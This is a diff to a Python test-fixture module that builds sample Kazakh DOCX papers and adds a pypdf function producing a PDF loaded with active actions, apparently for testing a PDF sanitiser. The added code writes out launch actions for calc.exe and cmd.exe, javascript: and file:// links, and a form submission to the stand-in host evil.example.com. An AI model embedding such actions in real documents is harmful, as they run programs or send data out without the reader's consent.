@@ -1,4 +1,5 @@
-"""Small DOCX papers for tests, built with python-docx: what a speaker's Word file looks like.
+"""Small DOCX papers for tests, built with python-docx: what a speaker's Word file looks like
+(and `pdf_with_actions`, a PDF built with pypdf that carries actions a viewer would run).
 
 `make_docx` writes a Kazakh academic paper with the parts a test asks for. python-docx has no API
 for footnotes, equations or linked pictures, so those are written as WordprocessingML here, the
@@ -21,6 +22,15 @@ from docx.oxml import parse_xml
 from docx.oxml.ns import nsdecls, qn
 from docx.shared import Cm
 from PIL import Image
+from pypdf import PdfWriter
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    FloatObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 KAZAKH_LETTERS = "ә ғ қ ң ө ұ ү һ і Ә Ғ Қ Ң Ө Ұ Ү Һ І"
 TITLE = "Қоғамдық қауіпсіздікті қамтамасыз етудің құқықтық негіздері"
@@ -324,3 +334,73 @@ def add_chart(document):
         )
     )
     document.add_paragraph("2-сурет. Өңірлер бойынша қылмыстар")
+
+
+SAFE_LINKS = ("https://adilet.zan.kz/kaz/docs/K950001000_", "mailto:editor@example.kz")
+UNSAFE_URIS = ("javascript:app.alert('uri')", "file:///C:/Windows/System32/calc.exe")
+UNSAFE_ACTIONS = (
+    {"/S": "/Launch", "/F": "calc.exe"},
+    {"/S": "/JavaScript", "/JS": "app.alert('link')"},
+    {"/S": "/GoToR", "/F": "other.pdf", "/D": [0, "/Fit"]},
+    {"/S": "/ImportData", "/F": "data.fdf"},
+    {"/S": "/SubmitForm", "/F": "https://evil.example.com/collect"},
+)
+
+
+def pdf_with_actions():
+    """A one-page PDF on US Letter whose links do everything a PDF viewer runs.
+
+    The page has links to SAFE_LINKS (one of them followed by chained JavaScript), to
+    UNSAFE_URIS, and with each of UNSAFE_ACTIONS; a file attachment; a form field with a
+    keystroke script; a page-open action; and, for the document, an OpenAction, an additional
+    action on closing and document-level JavaScript.
+    """
+    writer = PdfWriter()
+    writer.add_blank_page(612, 792)
+    actions = [{"/S": "/URI", "/URI": uri} for uri in SAFE_LINKS + UNSAFE_URIS]
+    actions[0]["/Next"] = {"/S": "/JavaScript", "/JS": "app.alert('chained')"}
+    actions += UNSAFE_ACTIONS
+    for number, action in enumerate(actions):
+        writer.add_annotation(0, annotation("/Link", number, {"/A": action}))
+    writer.add_annotation(0, annotation("/FileAttachment", 20, {"/Contents": "payload"}))
+    script = {"/K": {"/S": "/JavaScript", "/JS": "app.alert('field')"}}
+    writer.add_annotation(0, annotation("/Widget", 21, {"/FT": "/Tx", "/T": "x", "/AA": script}))
+    page = writer.pages[0]
+    page[NameObject("/AA")] = pdf_object({"/O": {"/S": "/JavaScript", "/JS": "app.alert('page')"}})
+    writer.root_object[NameObject("/OpenAction")] = pdf_object({"/S": "/Launch", "/F": "cmd.exe"})
+    writer.root_object[NameObject("/AA")] = pdf_object(
+        {"/WC": {"/S": "/JavaScript", "/JS": "app.alert('close')"}}
+    )
+    document_script = {"/S": "/JavaScript", "/JS": "app.alert('document')"}
+    writer.root_object[NameObject("/Names")] = pdf_object(
+        {"/JavaScript": {"/Names": ["open", document_script]}}
+    )
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def annotation(subtype, number, entries):
+    top = 760 - 30 * number
+    return pdf_object(
+        {
+            "/Type": "/Annot",
+            "/Subtype": subtype,
+            "/Rect": [72, top - 20, 300, top],
+            "/Border": [0, 0, 0],
+            **entries,
+        }
+    )
+
+
+def pdf_object(value):
+    """A Python value as a pypdf object: names start with "/", lists are arrays."""
+    if isinstance(value, dict):
+        return DictionaryObject({NameObject(key): pdf_object(item) for key, item in value.items()})
+    if isinstance(value, list):
+        return ArrayObject(pdf_object(item) for item in value)
+    if isinstance(value, str):
+        return NameObject(value) if value.startswith("/") else TextStringObject(value)
+    if isinstance(value, float):
+        return FloatObject(value)
+    return NumberObject(value)
